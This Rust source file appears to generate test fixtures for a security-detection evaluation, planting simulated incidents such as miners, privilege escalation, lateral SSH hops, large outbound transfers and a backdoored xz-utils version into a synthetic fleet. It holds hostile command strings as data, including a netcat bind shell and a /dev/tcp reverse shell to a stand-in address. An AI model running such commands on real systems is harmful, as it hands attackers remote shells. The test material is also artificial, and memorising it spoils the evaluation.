//! The facts, with what looks like them and is none. Each question has hosts of its own.

use local::simulate::{Change, Fleet, Sample};
use snapshot::{Count, Int, List, Text};

use super::plant::{
    DAEMON, OF_PHP, Planted, connection, edit, item, listener, minute, plant as put, session, socket,
};

/// The digest of a miner, and of a program that nobody had before.
pub(super) const MINER: &str = "2f1d6b5a0c9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a";
pub(super) const HELPER: &str = "5e1f0000000000000000000000000000000000000000000000000000005e1f00";

/// 1. An orphan: the shell that started it died the day before, and process 1 has it now.
pub(super) const ORPHAN: Planted = Planted {
    exe: "/usr/bin/kworkerd",
    cmdline: "kworkerd --quiet",
    parent: "sh",
    parent_exe: "/usr/bin/bash",
    ancestry: "sh < php-fpm < php-fpm < systemd",
    ..OF_PHP
};
/// 11. What listens for three minutes.
pub(super) const LISTENER: Planted =
    Planted { which: 1, exe: "/usr/bin/ncat", cmdline: "ncat -lvp 4444 -e /bin/sh", ..OF_PHP };
/// 8. Becomes root in place.
pub(super) const EXPLOIT: Planted =
    Planted { exe: "/usr/bin/php", cmdline: "php x.php", user: "www-data", uid: 33, euid: 33, ..OF_PHP };
/// 9. A shell with a terminal of its own.
pub(super) const PTS_SHELL: Planted =
    Planted { exe: "/usr/bin/bash", cmdline: "bash -i", tty: Some("pts/3"), ..OF_PHP };
/// 10. A shell that talks to the outside.
pub(super) const REVERSE_SHELL: Planted =
    Planted { exe: "/usr/bin/bash", cmdline: "bash -c exec 3<>/dev/tcp/203.0.113.9/443", ..OF_PHP };
/// 5. What waits for a magic packet.
pub(super) const BACKDOOR: Planted = Planted { exe: "/usr/sbin/bpfd", cmdline: "/usr/sbin/bpfd", ..DAEMON };
/// 11. The container of a listener.
pub(super) const CONTAINER: &str = "3f4e1c0ad5b2477f9ac0f3b1a2d94c5e6b7a8091c2d3e4f5061728394a5b6c7d";
/// The hosts that have a DHCP client: a cell without its batch hosts, which sleep at night.
pub(super) fn dhcp_hosts(fleet: &Fleet) -> Vec<String> {
    let names = (20..40).map(|number| fleet.identity(number).unwrap().name);
    names.filter(|name| !name.starts_with("batch")).collect()
}

/// Plants all of them.
pub(super) fn plant(fleet: &mut Fleet) {
    processes(fleet);
    sessions(fleet);
    network(fleet);
    chain(fleet);
    hosts(fleet);
}

fn started(planted: &Planted, start: i64) -> Planted {
    Planted { start, ..planted.clone() }
}

/// A process that runs in these minutes, from the first one on.
fn runs(fleet: &mut Fleet, host: &str, from: i64, until: i64, planted: &Planted) {
    let planted = started(planted, from);
    edit(fleet, host, from..until, move |sample| planted.run(sample));
}

fn processes(fleet: &mut Fleet) {
    // 1.
    let (dies, begins) = (minute(1, 23, 53), minute(1, 23, 50));
    let orphan = started(&ORPHAN, begins);
    let shell =
        Planted { start: begins, which: 2, exe: "/usr/bin/bash", cmdline: "sh -c kworkerd", ..OF_PHP };
    edit(fleet, "web-017", begins..minute(2, 3, 20), move |sample| {
        let mut process = orphan.process(sample);
        if sample.minute < dies {
            process.ppid = Some(Int::clamp(shell.pid(sample)));
            shell.run(sample);
        }
        sample.put_process(&process).unwrap();
    });

    // 2. Three hosts: one twice, one over midnight, one under another name.
    let miner = Planted { exe: "/usr/local/bin/xmrig", digest: Some(MINER), ..DAEMON };
    runs(fleet, "web-003", minute(0, 3, 5), minute(0, 3, 8), &miner);
    runs(fleet, "web-003", minute(2, 3, 5), minute(2, 3, 7), &miner);
    runs(fleet, "db-002", minute(1, 23, 55), minute(2, 0, 5), &miner);
    let renamed = Planted { exe: "/usr/sbin/kdevtmp", user: "nobody", uid: 65534, euid: 65534, ..miner };
    runs(fleet, "api-002", minute(2, 3, 6), minute(2, 3, 8), &renamed);

    // 3. A new digest, and an old one at a new path.
    let helper = Planted { exe: "/opt/shop/bin/helper", digest: Some(HELPER), ..DAEMON };
    runs(fleet, "web-005", minute(2, 3, 5), minute(2, 3, 8), &helper);
    let copy = Planted { start: minute(2, 3, 5), which: 1, exe: "/var/lib/.cache/nginx", ..DAEMON };
    edit(fleet, "web-005", minute(2, 3, 5)..minute(2, 3, 8), move |sample| {
        let mut process = copy.process(sample);
        process.exe_sha256 = sample.process_named("nginx").unwrap().exe_sha256;
        sample.put_process(&process).unwrap();
    });

    // 4. Memory, a deleted file, a shared-memory folder; and a file whose name only says that it is deleted.
    let hidden = |exe, memfd, deleted| Planted { exe, cmdline: "x", memfd, deleted, ..OF_PHP };
    for (host, planted) in [
        ("web-006", hidden("/memfd:payload", true, false)),
        ("web-007", hidden("/usr/sbin/acpid2", false, true)),
        ("web-008", hidden("/opt/tools/x (deleted)", false, false)),
        ("api-003", hidden("/dev/shm/.s/run", false, false)),
    ] {
        runs(fleet, host, minute(2, 3, 5), minute(2, 3, 8), &planted);
    }

    // 8. In place; sudo, which was effectively root before; an exec; a daemon that drops what it had.
    becomes(fleet, "web-009", &EXPLOIT, |process| root(process, true));
    let sudo =
        Planted { exe: "/usr/bin/sudo", user: "root", uid: 1001, euid: 0, session: Some("9"), ..DAEMON };
    becomes(fleet, "db-002", &sudo, |process| root(process, true));
    let shell = Planted {
        which: 1,
        exe: "/usr/bin/bash",
        user: "anna",
        uid: 1001,
        euid: 1001,
        session: Some("9"),
        ..DAEMON
    };
    becomes(fleet, "db-002", &shell, |process| {
        root(process, true);
        process.exe = Some(Text::cut("/usr/bin/id"));
    });
    let daemon = Planted { which: 1, exe: "/usr/sbin/vsftpd", ..DAEMON };
    becomes(fleet, "web-009", &daemon, |process| root(process, false));

    // 9. The shell of a hole. Those of people and of SSM are among the sessions.
    runs(fleet, "web-010", minute(2, 3, 5), minute(2, 3, 10), &PTS_SHELL);
}

/// A process that is as planted for three minutes from 03:04 on, and for three more is changed.
fn becomes(fleet: &mut Fleet, host: &str, planted: &Planted, change: fn(&mut snapshot::Process<'static>)) {
    let planted = started(planted, minute(2, 3, 4));
    edit(fleet, host, minute(2, 3, 4)..minute(2, 3, 10), move |sample| {
        let mut process = planted.process(sample);
        if sample.minute >= minute(2, 3, 7) {
            change(&mut process);
        }
        sample.put_process(&process).unwrap();
    });
}

fn root(process: &mut snapshot::Process<'static>, is: bool) {
    let uid = if is { 0 } else { 33 };
    (process.uid, process.euid) = (Count::new(uid), Count::new(uid));
    process.user_name = Some(Text::cut(if is { "root" } else { "www-data" }));
}

fn sessions(fleet: &mut Fleet) {
    // 6. Session 42 of one boot, and of the next.
    let of = |exe, cmdline, user, uid| Planted {
        exe,
        cmdline,
        user,
        uid,
        euid: uid,
        tty: Some("pts/7"),
        session: Some("42"),
        unit: "session-42.scope",
        parent: "bash",
        parent_exe: "/usr/bin/bash",
        ancestry: "bash < sshd < sshd < systemd",
        ..DAEMON
    };
    let begun = minute(2, 0, 2);
    edit(fleet, "api-004", begun..minute(2, 0, 8), move |sample| {
        sample.users.push(session("42", "mallory", Some("203.0.113.50"), "sshd", "user", begun));
        started(&of("/usr/bin/nmap", "nmap -sS 10.16.0.0/16", "mallory", 1099), begun).run(sample);
    });
    put(fleet, "api-004", minute(2, 0, 10)..minute(2, 3, 0), Change::Down);
    let begun = minute(2, 3, 5);
    edit(fleet, "api-004", begun..minute(2, 3, 16), move |sample| {
        sample.users.push(session("42", "anna", Some("10.16.0.39"), "sshd", "user", begun));
        sample.users.push(session("7", "root", None, "crond", "background", begun));
        started(&of("/usr/bin/bash", "-bash", "anna", 1001), begun).run(sample);
        let cron = Planted { session: Some("7"), ..of("/usr/bin/bash", "/bin/sh -c true", "root", 0) };
        started(&Planted { which: 1, ..cron }, begun).run(sample);
    });
    // Before the moment, as root, and after it: all that the session ran.
    let vim = Planted { which: 2, ..of("/usr/bin/vim", "vim notes.md", "anna", 1001) };
    runs(fleet, "api-004", minute(2, 3, 7), minute(2, 3, 10), &vim);
    let sudo = Planted { which: 3, ..of("/usr/bin/sudo", "sudo systemctl status", "root", 0) };
    runs(fleet, "api-004", minute(2, 3, 13), minute(2, 3, 15), &sudo);

    // Over midnight: of what it ran one row each, whatever days it was in.
    let begun = minute(1, 23, 50);
    let of_night = move |exe, cmdline| Planted { session: Some("17"), ..of(exe, cmdline, "bruno", 1002) };
    edit(fleet, "api-009", begun..minute(2, 0, 5), move |sample| {
        sample.users.push(session("17", "bruno", Some("10.16.2.39"), "sshd", "user", begun));
        started(&of_night("/usr/bin/bash", "-bash"), begun).run(sample);
    });
    let psql = Planted { which: 1, ..of_night("/usr/bin/psql", "psql orders") };
    runs(fleet, "api-009", minute(1, 23, 58), minute(2, 0, 2), &psql);

    // 7. And its shell, which has a terminal and no session of logind's.
    let begun = minute(2, 3, 2);
    edit(fleet, "worker-003", begun..minute(2, 3, 10), move |sample| {
        sample.users.push(session("bob-0a1b2c3d4e5f60718", "ssm-user", None, "ssm", "user", begun));
        let shell = Planted {
            exe: "/usr/bin/bash",
            cmdline: "sh",
            user: "ssm-user",
            uid: 1005,
            euid: 1005,
            tty: Some("pts/7"),
            unit: "amazon-ssm-agent.service",
            parent: "ssm-session-wor",
            parent_exe: "/usr/bin/ssm-session-worker",
            ancestry: "ssm-session-wor < ssm-agent-worke < amazon-ssm-agen < systemd",
            ..DAEMON
        };
        started(&shell, begun).run(sample);
    });
}

/// The way of every planted connection: it is open in these minutes, and says `bytes` of each.
fn talks(
    fleet: &mut Fleet,
    host: &str,
    minutes: std::ops::Range<i64>,
    planted: &Planted,
    peer: (&'static str, i64),
    bytes: impl Fn(i64) -> (i64, i64) + Send + Sync + 'static,
) {
    let planted = started(planted, minutes.start);
    edit(fleet, host, minutes, move |sample| {
        planted.run(sample);
        let pid = planted.pid(sample);
        let bytes = bytes(sample.minute - planted.start + 1);
        let socket = connection(pid, planted.user, "out", ("10.16.0.1", 40_000), peer, bytes);
        sample.add_socket(&socket).unwrap();
    });
}

fn network(fleet: &mut Fleet) {
    // 5. A backdoor on two hosts, beside what may do so.
    for (host, begins) in [("db-001", minute(2, 3, 4)), ("web-016", minute(2, 3, 6))] {
        let backdoor = started(&BACKDOOR, begins);
        edit(fleet, host, begins..minute(2, 3, 9), move |sample| {
            backdoor.run(sample);
            sample.add_socket(&socket(backdoor.pid(sample), "root", "raw", "listen")).unwrap();
        });
    }
    for host in dhcp_hosts(fleet) {
        for day in [0, 2] {
            let client = Planted {
                start: minute(day, 3, 0),
                which: 5,
                exe: "/usr/sbin/dhclient",
                unit: "network.service",
                ..DAEMON
            };
            edit(fleet, &host, minute(day, 3, 0)..minute(day, 3, 5), move |sample| {
                client.run(sample);
                sample.add_socket(&socket(client.pid(sample), "root", "packet", "listen")).unwrap();
            });
        }
    }

    // 10 and 12. The same peer, also in its other spelling and the other direction, and one that only begins like it.
    let peer = ("203.0.113.9", 443);
    talks(fleet, "web-011", minute(2, 3, 6)..minute(2, 3, 10), &REVERSE_SHELL, peer, |n| (1000 * n, 250 * n));
    // Debian's netcat, to the outside and to everybody in the local network.
    let netcat = Planted { exe: "/bin/nc.openbsd", ..OF_PHP };
    let minutes = minute(2, 3, 13)..minute(2, 3, 15);
    talks(fleet, "web-011", minutes.clone(), &netcat, ("2001:db8::10", 443), |_| (7, 7));
    // The last of the networks that are somebody's, and the first that is nobody's.
    talks(fleet, "web-011", minutes.clone(), &netcat, ("223.255.255.9", 443), |_| (7, 7));
    talks(fleet, "web-011", minutes, &netcat, ("224.0.0.251", 5353), |_| (7, 7));
    // An interpreter with its version, and what only begins like one.
    let minutes = minute(0, 3, 2)..minute(0, 3, 4);
    let node = Planted { exe: "/usr/bin/node-20", cmdline: "node x.js", ..OF_PHP };
    talks(fleet, "web-011", minutes.clone(), &node, ("203.0.113.80", 443), |_| (7, 7));
    let exporter = Planted { which: 1, exe: "/usr/bin/node_exporter", ..DAEMON };
    talks(fleet, "web-011", minutes, &exporter, ("203.0.113.81", 443), |_| (7, 7));
    let curl = Planted { exe: "/usr/bin/curl", ..OF_PHP };
    let minutes = minute(0, 3, 10)..minute(0, 3, 12);
    talks(fleet, "web-012", minutes.clone(), &curl, ("::ffff:203.0.113.9", 80), |_| (700, 90_000));
    talks(fleet, "web-012", minutes, &Planted { which: 1, ..curl }, ("203.0.113.90", 80), |_| (1, 1));
    edit(fleet, "web-013", minute(2, 3, 2)..minute(2, 3, 3), |sample| {
        let nginx = sample.process_named("nginx").unwrap();
        let (own, peer) = (("10.16.1.80", 443), ("203.0.113.9", 51_000));
        sample.add_socket(&connection(nginx.pid.get(), "root", "in", own, peer, (5000, 600))).unwrap();
    });

    // 11. For three minutes; later its pid is another process's.
    let begins = minute(2, 3, 10);
    let bait = started(&LISTENER, begins);
    edit(fleet, "web-017", begins..begins + 3, move |sample| {
        bait.run(sample);
        sample.add_socket(&listener(bait.pid(sample), "apache", 4444)).unwrap();
    });
    let again = started(&LISTENER, begins);
    edit(fleet, "web-017", begins + 6..begins + 8, move |sample| {
        let later = Planted { exe: "/usr/bin/php", cmdline: "php later.php", ..again.clone() };
        let mut process = later.process(sample);
        process.start_time_ms = snapshot::Millis::new((begins + 5) * 60_000);
        sample.put_process(&process).unwrap();
    });

    // A container's, of which only the user and the container are known.
    edit(fleet, "worker-010", minute(0, 3, 2)..minute(0, 3, 5), |sample| {
        let mut socket = listener(0, "redis", 6379);
        (socket.pid, socket.container_id) = (None, Some(Text::cut(CONTAINER)));
        sample.add_socket(&socket).unwrap();
    });

    // 13. A new port, and a known one with another program.
    for (which, exe, port) in [(0, "/usr/sbin/in.rshd", 31_337), (1, "/usr/local/sbin/node_exporter", 9100)] {
        let planted = Planted { start: minute(2, 3, 5), which, exe, ..DAEMON };
        edit(fleet, "web-014", minute(2, 3, 5)..minute(2, 3, 8), move |sample| {
            planted.run(sample);
            sample.add_socket(&listener(planted.pid(sample), "root", port)).unwrap();
        });
    }

    // 15. 5 GB over midnight; a backup with a past; less than much.
    let rclone = Planted { exe: "/usr/bin/rclone", ..DAEMON };
    let minutes = minute(1, 23, 55)..minute(2, 0, 5);
    talks(fleet, "db-004", minutes, &rclone, ("198.51.100.200", 443), |n| (500_000_000 * n, 1000));
    let restic = Planted { exe: "/usr/bin/restic", ..DAEMON };
    for day in [0, 2] {
        let minutes = minute(day, 3, 13)..minute(day, 3, 17);
        talks(fleet, "web-002", minutes, &restic, ("52.219.72.10", 443), |n| (500_000_000 * n, 10));
    }
    let minutes = minute(2, 3, 13)..minute(2, 3, 16);
    talks(fleet, "worker-007", minutes, &restic, ("52.219.72.11", 443), |n| (300_000_000 * n, 10));
    // Much to three addresses, little to each; and two programs that only together sent much.
    let minutes = minute(2, 3, 5)..minute(2, 3, 9);
    for (which, address) in [(0, "198.51.100.201"), (1, "198.51.100.202"), (2, "198.51.100.203")] {
        let planted = Planted { which, ..rclone.clone() };
        talks(fleet, "worker-008", minutes.clone(), &planted, (address, 443), move |n| {
            ((100_000_000 + which) * n, 10)
        });
    }
    for (which, program, address) in [(0, &rclone, "198.51.100.204"), (1, &restic, "198.51.100.205")] {
        let planted = Planted { which, ..program.clone() };
        talks(fleet, "worker-009", minutes.clone(), &planted, (address, 443), |n| (150_000_000 * n, 10));
    }
    // What somebody fetched over ssh, and what customers did.
    for (which, exe, user, port) in [(0, "/usr/sbin/sshd", "dalia", 22), (1, "/usr/sbin/nginx", "nginx", 443)]
    {
        let planted = Planted { start: minutes.start, which, exe, user, ..DAEMON };
        edit(fleet, "web-012", minutes.clone(), move |sample| {
            planted.run(sample);
            let bytes = (500_000_000 * (sample.minute - planted.start + 1), 10);
            let (own, peer) = (("10.16.1.88", port), ("198.51.100.77", 51_022));
            sample.add_socket(&connection(planted.pid(sample), user, "in", own, peer, bytes)).unwrap();
        });
    }
    // Much from a host that gets another name on the way (at 03:14, below), and little under either. Nothing goes between
    // the last sample under the one name and the first under the other, which Trino counts for neither while it is raw.
    let minutes = minute(2, 3, 12)..minute(2, 3, 17);
    talks(fleet, "worker-002", minutes, &restic, ("52.219.72.12", 443), |n| {
        (350_000_000 * (n - i64::from(n > 2)), 10)
    });
}

/// 14. From the office to a bastion, and on over three hops; on the way also a connection to somewhere else.
fn chain(fleet: &mut Fleet) {
    // One of them sends no list of its addresses.
    edit(fleet, "api-005", minute(2, 0, 0)..minute(2, 3, 18), |sample| {
        sample.figures.addresses = List::default();
    });
    let ip = |host: &str| fleet.identity(fleet.number_of(host).unwrap()).unwrap().ip;
    let hops: [(&str, &str, i64); 4] = [
        ("bastion-002", "mallory", 2),
        ("web-015", "deploy", 4),
        ("api-005", "deploy", 6),
        ("db-003", "root", 8),
    ];
    let addresses: Vec<String> = hops.iter().map(|(host, ..)| ip(host)).collect();
    let elsewhere = ip("db-005");
    for (place, (host, user, at)) in hops.into_iter().enumerate() {
        let begun = minute(2, 3, at);
        let from = if place == 0 { "198.51.100.66".to_owned() } else { addresses[place - 1].clone() };
        let own = addresses[place].clone();
        let next = hops.get(place + 1).map(|(_, _, at)| (addresses[place + 1].clone(), minute(2, 3, *at)));
        let elsewhere = elsewhere.clone();
        edit(fleet, host, begun..minute(2, 3, 18), move |sample: &mut Sample| {
            // Of root and other users of the system logind says that they are early.
            let class = if user == "root" { "user-early" } else { "user" };
            sample.users.push(session(&format!("9{place}"), user, Some(&from), "sshd", class, begun));
            let Some((next, next_begun)) = &next else { return };
            if sample.minute < *next_begun {
                return;
            }
            let ssh = |which| Planted {
                start: *next_begun,
                which,
                exe: "/usr/bin/ssh",
                cmdline: "ssh",
                user,
                ..DAEMON
            };
            for (which, target) in [(7, next), (8, &elsewhere)] {
                ssh(which).run(sample);
                let pid = ssh(which).pid(sample);
                let local = (own.as_str(), 40_000 + which);
                let socket = connection(pid, user, "out", local, (target.as_str(), 22), (100, 100));
                sample.add_socket(&socket).unwrap();
            }
        });
    }
}

fn hosts(fleet: &mut Fleet) {
    // 16. A key that was there for three hours, less than a day.
    let key =
        |change| item("authorized_key", "/root/.ssh/authorized_keys", "ssh-ed25519 SHA256:Zm9y", change);
    for (at, change) in [(minute(2, 0, 3), "added"), (minute(2, 3, 9), "removed")] {
        edit(fleet, "web-016", at..at + 1, move |sample| sample.inventory.push(key(change)));
    }

    // 17. The backdoored version until it was replaced, and what replaced it, whose number begins the same.
    let package = |value, change| item("package", "xz-utils", value, change);
    let replacement = "5.6.1+really5.4.5-1";
    for (host, at, value, change) in [
        ("worker-001", minute(0, 0, 0), "5.6.1-1", "present"),
        ("worker-001", minute(2, 0, 0), "5.6.1-1", "present"),
        ("worker-001", minute(2, 3, 5), replacement, "changed"),
        ("worker-002", minute(2, 0, 0), replacement, "present"),
        ("worker-008", minute(0, 0, 0), "5.6.1-1", "removed"),
        ("worker-009", minute(0, 0, 0), "5.6.10-1", "present"),
        ("db-005", minute(2, 0, 0), "1:5.6.1-2.el9", "present"),
    ] {
        edit(fleet, host, at..at + 1, move |sample| sample.inventory.push(package(value, change)));
    }

    // 18. Twelve minutes; single noisy ones, twelve in three days; a module from elsewhere.
    let unlisted = |sample: &mut Sample| sample.figures.threads_unlisted = Int::new(1);
    edit(fleet, "worker-004", minute(2, 3, 2)..minute(2, 3, 14), unlisted);
    for day in [0, 2] {
        for of_hour in [2, 4, 7, 9, 12] {
            edit(fleet, "worker-005", minute(day, 3, of_hour)..minute(day, 3, of_hour) + 1, unlisted);
        }
    }
    for of_hour in [47, 53] {
        edit(fleet, "worker-005", minute(1, 23, of_hour)..minute(1, 23, of_hour) + 1, unlisted);
    }
    edit(fleet, "worker-006", minute(2, 3, 0)..minute(2, 3, 18), |sample| {
        sample.figures.kernel_tainted = Count::new(12_288);
    });

    // 19. One of each kind, one that never came back, and two too short to be silence.
    let gap = minute(1, 23, 50)..minute(1, 23, 56);
    put(fleet, "web-001", gap.clone(), Change::Down);
    put(fleet, "web-002", gap.clone(), Change::AgentDown);
    put(fleet, "api-001", gap.clone(), Change::AgentDown);
    put(fleet, "api-001", gap.end..gap.end + 1, Change::Wiped);
    put(fleet, "db-001", gap.clone(), Change::Lost);
    put(fleet, "web-019", gap.clone(), Change::Suspended);
    put(fleet, "web-004", minute(1, 23, 52)..minute(3, 0, 0), Change::Down);
    put(fleet, "web-005", gap.start..gap.start + 2, Change::Lost);
    put(fleet, "web-008", gap.start..gap.start + 2, Change::Suspended);

    // 1. A host that gets another name in the day: what it ran before has parents all the same. The new name is the
    // larger one, since while the day is raw Trino has rows under both, and questions show the largest.
    edit(fleet, "worker-002", minute(2, 3, 14)..minute(2, 3, 18), |sample| {
        sample.figures.host_name = Some(Text::cut("worker-002-renamed"));
    });

    // 20. A child that lived between the samples of 03:10 and 03:11.
    edit(fleet, "web-018", minute(2, 3, 0)..minute(2, 3, 20), |sample| {
        let lived = sample.minute >= minute(2, 3, 11);
        sample.figures.forks = Count::new(if lived { 900_009 } else { 900_000 });
        let mut master = sample.process_named("php-fpm").unwrap();
        master.child_faults = Count::new(if lived { 54_242 } else { 50_000 });
        sample.put_process(&master).unwrap();
    });
    // One that was started between them, and one that the sample before them missed.
    let older = started(&DAEMON, minute(2, 3, 8));
    let older = Planted { which: 1, exe: "/usr/sbin/php-fpm", ..older };
    edit(fleet, "db-003", minute(2, 3, 8)..minute(2, 3, 13), move |sample| {
        if sample.minute != minute(2, 3, 10) {
            older.run(sample);
        }
    });
    let fresh = Planted { start: minute(2, 3, 11), exe: "/usr/sbin/php-fpm", ..DAEMON };
    edit(fleet, "db-003", minute(2, 3, 11)..minute(2, 3, 13), move |sample| {
        let mut process = fresh.process(sample);
        process.child_faults = Count::new(4242);
        sample.put_process(&process).unwrap();
    });
}
